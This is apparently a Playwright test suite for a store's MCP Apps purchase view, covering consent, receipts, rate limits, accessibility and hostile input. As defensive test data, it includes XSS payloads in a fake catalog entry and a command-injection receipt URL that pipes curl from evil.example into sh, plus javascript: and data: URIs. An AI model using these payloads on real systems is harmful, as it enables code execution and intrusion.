"""The store's MCP Apps view in a real browser, inside a real host bridge: Debian's Chromium runs a
minimal host page (tests/clients/apps_host.mjs, bundled with esbuild) in which the official
TypeScript client and ext-apps' AppBridge run the view against a dev host, in both MCP
generations. The page's /mcp is carried to the dev host by the test, as a chat client's backend
would carry it, from the test's own client address.

What a person does and sees: browse, consent, receipt; a decline; a refused address or name asked
again; a limit in words; hostile catalog text shown as text; the keyboard alone; axe-core's rules
on a narrow panel. With STOREFRONT_SCREENSHOT_DIR=docs, the screenshots docs/clients.md shows are
written there."""

from __future__ import annotations

import json
import re
import subprocess
from collections.abc import Callable
from dataclasses import dataclass

import pytest

from devstack.services import Service
from shared.purchase.catalog import BUNDLES
from tests.browser import Tab, assert_accessible, screenshot_dir
from tests.support import HANG_SECONDS, ROOT, UNKNOWN_BUNDLE_ID, Buyer

try:
    from playwright.sync_api import Frame, Route, expect
except ImportError:  # pragma: no cover - a clear message instead of a collection error
    pytest.fail("playwright is not installed: run `make test`", pytrace=False)

HOST = "http://host.test"
# A chat's side panel, tall enough that the page never grows past it: a full-page capture would
# resize the window, and Chromium paints an out-of-process (sandboxed) frame blank while it does.
PANEL = {"width": 380, "height": 1400}
PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Test host</title>
<style>body { margin: 0; } iframe { display: block; width: 100%; border: 0; }</style></head>
<body><label>Message <input id="composer"></label><script type="module" src="/host.js"></script>
</body></html>"""
FORWARDED = ("content-type", "accept", "mcp-protocol-version", "mcp-method", "mcp-name", "mcp-session-id")
KEPT = ("content-type", "mcp-session-id", "allow")
GENERATIONS = {"legacy": "legacy", "auto": "modern"}  # the client's mode -> the era it speaks
STARTER = BUNDLES["agent-starter-kit"]
HOSTILE = {
    "id": "hostile",
    "title": '<img src=x onerror="parent.postMessage(1,`*`)">Evil <b>bundle</b>',
    "description": "<script>alert(1)</script><a href=//1249767168>Claim your refund</a> &amp; more",
    "price": "0.00",
    "currency": "USD",
}
REFUSED_NAME = "Claim your refund at https://refund.example"  # a name must not read as a link


@pytest.fixture(scope="module")
def host_js(tmp_path_factory) -> bytes:
    """The host page's script: the entry and its packages, bundled for the browser."""
    out = tmp_path_factory.mktemp("apps-host") / "host.js"
    esbuild = ROOT / "node_modules" / ".bin" / "esbuild"
    entry = ROOT / "tests" / "clients" / "apps_host.mjs"
    args = [str(esbuild), str(entry), "--bundle", "--format=esm", "--platform=browser", f"--outfile={out}"]
    subprocess.run([*args, "--log-level=warning"], check=True, cwd=ROOT, timeout=HANG_SECONDS)
    return out.read_bytes()


@dataclass
class Chat:
    """One host page running the view: its tab, the view's frame, and what the host saw."""

    tab: Tab
    frame: Frame
    started: dict
    buyer: Buyer
    wire: list[tuple[str, int]]  # each /mcp request's method and the store's status

    def errors(self) -> list[str]:
        """Console errors but the one the client's optional GET stream causes: the store answers
        it 405, as a server without a standalone SSE stream does, and Chromium logs the 405."""
        assert all(method == "GET" for method, status in self.wire if status == 405), self.wire
        return [e for e in self.tab.errors if "status of 405 (Method Not Allowed)" not in e]

    def log(self) -> list[dict]:
        return self.tab.page.evaluate("window.hostLog")

    def purchases(self) -> list[dict]:
        return [entry for entry in self.log() if entry.get("call") == "purchase_free_bundle"]


@pytest.fixture
def chat(tab, host, host_js) -> Callable[..., Chat]:
    """Open the host page and have it call `tool` with `args`, as a model would; the view runs."""

    def open_chat(
        mode: str = "legacy",
        tool: str = "list_bundles",
        args: dict | None = None,
        *,
        store: Service = host,
        buyer: Buyer | None = None,
        bypass_csp: bool = False,
        rewrite: Callable[[dict], None] | None = None,
        **host: object,
    ) -> Chat:
        buyer = buyer or Buyer(store.url)
        t = tab(PANEL, bypass_csp=bypass_csp)
        wire: list[tuple[str, int]] = []
        t.context.route(f"{HOST}/**", lambda route: _serve(route, store, buyer, host_js, rewrite, wire))
        t.open(f"{HOST}/")
        t.page.wait_for_function("() => typeof window.startHost === 'function'")
        t.page.focus("#composer")  # the person is in the chat, as when a tool's view appears
        options = {"mode": mode, "tool": tool, "args": args or {}, **host}
        started = t.page.evaluate("o => window.startHost(o)", options)
        frame = t.page.wait_for_selector("#view").content_frame()
        assert frame is not None
        return Chat(t, frame, started, buyer, wire)

    return open_chat


def _serve(route: Route, store: Service, buyer: Buyer, host_js: bytes, rewrite, wire: list) -> None:
    path = route.request.url.removeprefix(HOST)
    if path == "/":
        route.fulfill(status=200, content_type="text/html", body=PAGE)
    elif path == "/host.js":
        route.fulfill(status=200, content_type="text/javascript", body=host_js)
    elif path == "/mcp":
        request = route.request
        headers = {k: v for k, v in request.headers.items() if k.lower() in FORWARDED}
        answer = buyer.http.request(
            request.method,
            f"{store.url}/api/a2a/mcp",
            data=request.post_data_buffer,
            headers=headers,
            timeout=30,
        )
        body = answer.content
        wire.append((request.method, answer.status_code))
        message = json.loads(request.post_data or "null") if request.method == "POST" else None
        if rewrite and isinstance(message, dict) and message.get("params", {}).get("name") == "list_bundles":
            document = answer.json()
            rewrite(document["result"])
            body = json.dumps(document).encode()
        kept = {k: v for k, v in answer.headers.items() if k.lower() in KEPT}
        route.fulfill(status=answer.status_code, headers=kept, body=body)
    else:
        route.fulfill(status=404, body=b"")


def shoot(c: Chat, tmp_path, name: str, doc_name: str | None) -> None:
    """The view as the host shows it (its frame, sized by the view's own size-changed)."""
    view = c.tab.page.locator("#view")
    path = tmp_path / f"{name}.png"
    view.screenshot(path=str(path))
    assert path.stat().st_size > 5_000
    target = screenshot_dir()
    if doc_name and target is not None:
        view.screenshot(path=str(target / doc_name))


def view_text(frame: Frame, selector: str) -> str:
    return re.sub(r"\s+", " ", frame.locator(selector).inner_text()).strip()


# ----- browse, consent, receipt -------------------------------------------------------------------


@pytest.mark.parametrize("mode", GENERATIONS)
def test_a_person_browses_agrees_and_reads_the_receipt(chat, mail, mode, tmp_path) -> None:
    c = chat(mode)
    frame, page = c.frame, c.tab.page
    assert c.started["era"] == GENERATIONS[mode]
    assert c.started["csp"] == {
        "connectDomains": [],
        "resourceDomains": [],
        "frameDomains": [],
        "baseUriDomains": [],
    }

    expect(frame.get_by_role("heading", name="Choose a bundle")).to_be_visible()
    items = frame.locator("#bundles > li")
    expect(items).to_have_count(len(BUNDLES))
    for item, bundle in zip(items.all(), BUNDLES.values(), strict=True):
        expect(item.get_by_role("heading")).to_have_text(bundle.title)
        expect(item).to_contain_text(bundle.description)
        expect(item).to_contain_text("Free")
    docs = mode == "legacy"
    shoot(c, tmp_path, f"apps-browse-{mode}", "mcp-app-browse.png" if docs else None)

    frame.get_by_role("button", name=f"Get {STARTER.title}").click()
    expect(frame.get_by_role("heading", name="Send this bundle?")).to_be_visible()
    email = frame.get_by_label("Email address that receives it")
    expect(email).to_have_value("")
    email.fill(c.buyer.email)
    frame.get_by_label("Name in the email (optional)").fill("Ada")
    summary = view_text(frame, "#summary")
    assert summary.startswith(f"“{STARTER.title}” (free) will be emailed to Ada at {c.buyer.email}.")
    assert "adds the address to its mailing contacts" in summary
    assert c.purchases() == [] and mail.emails_to(c.buyer.email) == []  # nothing before the yes
    shoot(c, tmp_path, f"apps-consent-{mode}", "mcp-app-consent.png" if docs else None)

    frame.get_by_role("button", name="Yes, send it").click()
    expect(frame.get_by_role("heading", name=f"Sent: {STARTER.title}")).to_be_visible()
    expect(frame.locator("#receipt-lead")).to_contain_text(
        f"A download link is on its way to {c.buyer.email}."
    )
    checks = frame.locator("#checks > li")
    expect(checks).to_have_count(6)
    for i in range(6):
        expect(checks.nth(i)).to_contain_text("Passed")
    expect(checks.nth(5)).to_contain_text("The email with the download link was accepted for delivery")
    verify = view_text(frame, "#receipt-verify")
    assert "/.well-known/jwks.json" in verify and "python -m ops.verify_receipt " in verify
    shoot(c, tmp_path, f"apps-receipt-{mode}", "mcp-app-receipt.png" if docs else None)

    [purchase] = c.purchases()
    arguments = purchase["arguments"]
    assert arguments["email"] == c.buyer.email and arguments["name"] == "Ada"
    assert arguments["bundle_id"] == STARTER.id and arguments["idempotency_key"].startswith("view-")
    assert len(mail.emails_to(c.buyer.email)) == 1

    frame.get_by_role("link", name="Open the receipt page").click()
    page.wait_for_function("window.hostLog.some(entry => entry.link)")
    links = [entry["link"] for entry in c.log() if "link" in entry]
    receipt_id = re.search(r"Receipt (rcpt_\w+)", view_text(frame, "#receipt-lead"))[1]
    href = frame.get_by_role("link", name="Open the receipt page").get_attribute("href")
    assert href is not None and href.endswith(f"/api/receipts/{receipt_id}")
    assert links == [href]  # opened by the host, not by the sandboxed view
    assert c.errors() == []  # no CSP violation, no script error
    assert frame.evaluate("document.documentElement.scrollWidth <= window.innerWidth")


def test_declining_sends_nothing(chat, mail) -> None:
    c = chat()
    c.frame.get_by_role("button", name=f"Get {STARTER.title}").click()
    c.frame.get_by_label("Email address that receives it").fill(c.buyer.email)
    c.frame.get_by_role("button", name="No, don't send").click()

    expect(c.frame.locator("#status")).to_have_text("Nothing was sent.")
    expect(c.frame.get_by_role("heading", name="Choose a bundle")).to_be_visible()
    assert c.purchases() == []
    assert mail.emails_to(c.buyer.email) == []


@pytest.mark.parametrize("mode", GENERATIONS)
def test_a_purchase_the_model_made_shows_its_receipt(chat, mail, mode) -> None:
    buyer = Buyer("")
    args = {"email": buyer.email, "bundle_id": STARTER.id, "idempotency_key": buyer.key}
    c = chat(mode, "purchase_free_bundle", args)

    expect(c.frame.get_by_role("heading", name=f"Sent: {STARTER.title}")).to_be_visible()
    expect(c.frame.locator("#receipt-lead")).to_contain_text(f"on its way to {buyer.email}")
    assert len(mail.emails_to(buyer.email)) == 1
    assert c.purchases() == []  # the model's call, made by the host: the view called nothing


def test_a_refused_address_is_asked_again_and_then_sent(chat, mail) -> None:
    buyer = Buyer("")
    c = chat("legacy", "purchase_free_bundle", {"email": "ada@", "bundle_id": STARTER.id})

    email = c.frame.get_by_label("Email address that receives it")
    expect(email).to_have_value("ada@")  # taken from the call, and editable
    expect(email).to_have_attribute("aria-invalid", "true")
    expect(c.frame.locator("#email-error")).to_contain_text("That address can't receive the bundle.")
    email.fill(buyer.email)
    c.frame.get_by_role("button", name="Yes, send it").click()

    expect(c.frame.get_by_role("heading", name=f"Sent: {STARTER.title}")).to_be_visible()
    assert len(mail.emails_to(buyer.email)) == 1


def test_a_refused_name_is_said_in_words(chat, mail) -> None:
    c = chat()
    c.frame.get_by_role("button", name=f"Get {STARTER.title}").click()
    c.frame.get_by_label("Email address that receives it").fill(c.buyer.email)
    c.frame.get_by_label("Name in the email (optional)").fill(REFUSED_NAME)
    c.frame.get_by_role("button", name="Yes, send it").click()

    name = c.frame.get_by_label("Name in the email (optional)")
    expect(name).to_have_attribute("aria-invalid", "true")
    expect(c.frame.locator("#name-error")).to_contain_text("The store won't put that name in an email.")
    expect(name).to_be_focused()
    assert mail.emails_to(c.buyer.email) == []


def test_a_limit_reads_as_a_sentence(chat, host_factory, mail) -> None:
    store = host_factory(STOREFRONT_RATE_LIMIT_PER_HOUR="1", STOREFRONT_GOVERNANCE_TABLE="governanceapps")
    c = chat(store=store)
    for email in (c.buyer.email, "second." + c.buyer.email):
        c.frame.get_by_role("button", name=f"Get {STARTER.title}").click()
        c.frame.get_by_label("Email address that receives it").fill(email)
        c.frame.get_by_role("button", name="Yes, send it").click()
        if email == c.buyer.email:
            expect(c.frame.get_by_role("heading", name=f"Sent: {STARTER.title}")).to_be_visible()
            c.frame.get_by_role("button", name="Choose another bundle").click()

    problem = c.frame.get_by_role("alert")
    expect(problem).to_contain_text("The store's limit was reached, so nothing was sent.")
    expect(problem).to_contain_text(re.compile(r"Try again in about \d+ (minutes|hours?)"))
    assert mail.emails_to("second." + c.buyer.email) == []


def test_hostile_catalog_text_is_shown_as_text(chat) -> None:
    def add_hostile(result: dict) -> None:
        result["structuredContent"]["bundles"].append(HOSTILE)
        result["content"] = [{"type": "text", "text": json.dumps(result["structuredContent"])}]

    c = chat(rewrite=add_hostile)
    item = c.frame.locator("#bundles > li").last
    expect(item.get_by_role("heading")).to_have_text(HOSTILE["title"])
    expect(item).to_contain_text(HOSTILE["description"])
    assert c.frame.locator("#bundles img, #bundles a, #bundles script, #bundles b").count() == 0
    assert c.errors() == []

    item.get_by_role("button").click()
    c.frame.get_by_label("Email address that receives it").fill(c.buyer.email)
    expect(c.frame.locator("#summary")).to_contain_text(f"“{HOSTILE['title']}” (free)")
    c.frame.get_by_role("button", name="Yes, send it").click()
    expect(c.frame.get_by_role("alert")).to_have_text(
        "That bundle is not offered any more. Choose another one."
    )
    expect(c.frame.get_by_role("heading", name="Choose a bundle")).to_be_visible()
    assert c.frame.locator("img, a, b").count() == 0
    assert c.frame.locator("script").count() == 1  # the view's own


# ----- keyboard, accessibility, a narrow panel ----------------------------------------------------


def test_the_keyboard_alone_gets_a_bundle_and_axe_finds_nothing(chat, mail) -> None:
    c = chat(bypass_csp=True)  # to let axe in; the CSP itself is held by the tests above
    frame, keyboard = c.frame, c.tab.page.keyboard
    expect(frame.get_by_role("heading", name="Choose a bundle")).to_be_visible()
    assert_accessible(frame)

    frame.get_by_role("button", name=f"Get {STARTER.title}").focus()
    keyboard.press("Enter")
    expect(frame.get_by_role("heading", name="Send this bundle?")).to_be_focused()
    keyboard.press("Tab")
    expect(frame.get_by_label("Email address that receives it")).to_be_focused()
    keyboard.type(c.buyer.email)
    assert_accessible(frame)
    keyboard.press("Enter")  # the form's default button: "Yes, send it"

    expect(frame.get_by_role("heading", name=f"Sent: {STARTER.title}")).to_be_focused()
    assert_accessible(frame)
    assert len(mail.emails_to(c.buyer.email)) == 1
    assert frame.evaluate("document.documentElement.scrollWidth <= window.innerWidth")


# ----- a host that is not ideal, and what it sends ----------------------------------------------

EMAIL = "Email address that receives it"
RECEIPT_ID = "rcpt_" + "a" * 26


def receipt_result(url: str) -> dict:
    """A fulfilled receipt as a host might relay it, with `url` as its page."""
    receipt = {
        "receipt_id": RECEIPT_ID,
        "status": "fulfilled",
        "issued_at": "2026-12-07T10:00:00Z",
        "bundle": {"id": STARTER.id, "title": STARTER.title},
        "buyer": {"hint": "a***@e***.org"},
        "checks": [{"name": "idempotency", "result": "pass", "detail": "key claimed"}],
        "receipt_url": url,
        "signature": {"alg": "ES256", "kid": "k1"},
    }
    return {
        "content": [{"type": "text", "text": json.dumps(receipt)}],
        "structuredContent": receipt,
        "isError": False,
    }


def test_a_lost_answer_edits_and_a_decline_keep_one_key_and_one_email(chat, mail) -> None:
    c = chat(loseAnswers=3)  # the store runs each; the host loses the first three answers
    frame = c.frame
    send = frame.get_by_role("button", name="Yes, send it")
    frame.get_by_role("button", name=f"Get {STARTER.title}").click()
    frame.get_by_label(EMAIL).fill(c.buyer.email)
    send.click()
    expect(frame.get_by_role("alert")).to_contain_text("The host reported an error: Request timed out.")
    expect(frame.get_by_role("alert")).to_contain_text("the same request will not send a second email")

    frame.get_by_label("Name in the email (optional)").fill("Ada")
    frame.get_by_label("Name in the email (optional)").fill("")  # changed, then changed back
    send.click()
    expect(frame.get_by_role("alert")).to_contain_text("Request timed out")
    frame.get_by_role("button", name="No, don't send").click()
    frame.get_by_role("button", name=f"Get {STARTER.title}").click()
    expect(frame.get_by_label(EMAIL)).to_have_value(c.buyer.email)
    send.click()
    expect(frame.get_by_role("alert")).to_contain_text("Request timed out")
    send.click()

    expect(frame.get_by_role("heading", name=f"Sent: {STARTER.title}")).to_be_visible()
    expect(frame.locator("#receipt-lead")).to_contain_text("nothing was sent again")
    keys = {p["arguments"]["idempotency_key"] for p in c.purchases()}
    assert len(c.purchases()) == 4 and len(keys) == 1
    assert len(mail.emails_to(c.buyer.email)) == 1


@pytest.mark.parametrize(
    ("url", "link", "command"),
    [
        (f"https://store.example/api/receipts/{RECEIPT_ID}", True, True),
        (f"https://store.example/api/receipts/{RECEIPT_ID}?a=$(curl${{IFS}}evil.example|sh)", True, False),
        (f"https://store.example/api/receipts/{RECEIPT_ID};id", True, False),
        (f"https://user:pw@evil.example/api/receipts/{RECEIPT_ID}", False, False),
        ("javascript:alert(1)//https://store.example", False, False),
        (" JAVASCRIPT:alert(1)", False, False),
        ("data:text/html,<script>alert(1)</script>", False, False),
        ("", False, False),
    ],
)
def test_a_receipts_page_is_offered_only_as_a_web_link_and_pasted_only_when_plain(chat, url, link, command):
    c = chat("legacy", "purchase_free_bundle", {"email": "ada@example.org"}, result=receipt_result(url))
    frame = c.frame
    expect(frame.get_by_role("heading", name=f"Sent: {STARTER.title}")).to_be_visible()
    expect(frame.get_by_role("link")).to_have_count(1 if link else 0)
    verify = view_text(frame, "#receipt-verify")
    assert ("python -m ops.verify_receipt" in verify) == command, verify
    if command:
        assert verify.endswith(f"python -m ops.verify_receipt {url} from the store's source.")


def test_a_result_leaves_the_chats_focus_alone_and_a_dead_end_offers_the_bundles(chat) -> None:
    c = chat("legacy", "purchase_free_bundle", {"email": "ada@example.org", "bundle_id": UNKNOWN_BUNDLE_ID})
    frame = c.frame
    expect(frame.get_by_role("alert")).to_have_text(
        "That bundle is not offered any more. Choose another one."
    )
    assert c.tab.page.evaluate("document.activeElement.id") == "composer"  # the view took nothing

    frame.get_by_role("button", name="See the bundles").click()
    expect(frame.get_by_role("heading", name="Choose a bundle")).to_be_focused()  # asked for, here
    expect(frame.locator("#bundles > li")).to_have_count(len(BUNDLES))


def test_a_host_that_cannot_open_links_or_call_tools_is_told_so(chat, mail) -> None:
    url = f"https://store.example/api/receipts/{RECEIPT_ID}"
    c = chat(
        "legacy", "purchase_free_bundle", {"email": "ada@example.org"}, caps={}, result=receipt_result(url)
    )
    expect(c.frame.get_by_role("link")).to_have_count(0)
    expect(c.frame.locator("#receipt-link")).to_have_text(f"The receipt's page: {url}")

    c = chat(caps={})
    c.frame.get_by_role("button", name=f"Get {STARTER.title}").click()
    c.frame.get_by_label(EMAIL).fill(c.buyer.email)
    c.frame.get_by_role("button", name="Yes, send it").click()
    expect(c.frame.get_by_role("alert")).to_contain_text("This host does not let the view call the store")
    assert c.purchases() == [] and mail.emails_to(c.buyer.email) == []


def test_the_dark_theme_passes_axe_and_host_requests_get_real_answers(chat) -> None:
    c = chat(theme="dark", bypass_csp=True)
    expect(c.frame.get_by_role("heading", name="Choose a bundle")).to_be_visible()
    assert c.frame.evaluate("document.documentElement.dataset.theme") == "dark"
    assert_accessible(c.frame)

    answers = c.tab.page.evaluate(
        """() => new Promise((resolve, reject) => {
            setTimeout(() => reject(new Error("the view left a host request unanswered")), 15000);
            const view = document.getElementById("view").contentWindow;
            const seen = {};
            addEventListener("message", (event) => {
                if (event.source === view && event.data && event.data.id >= 9000) {
                    seen[event.data.id] = event.data;
                    if (Object.keys(seen).length === 3) resolve(seen);
                }
            });
            view.postMessage({ jsonrpc: "2.0", id: 9001, method: "ping" }, "*");
            view.postMessage({ jsonrpc: "2.0", id: 9002, method: "tools/list" }, "*");
            view.postMessage({ jsonrpc: "2.0", id: 9003, method: "ui/resource-teardown", params: {} }, "*");
        })"""
    )
    assert answers["9001"]["result"] == {} and answers["9003"]["result"] == {}
    assert answers["9002"]["error"]["code"] == -32601
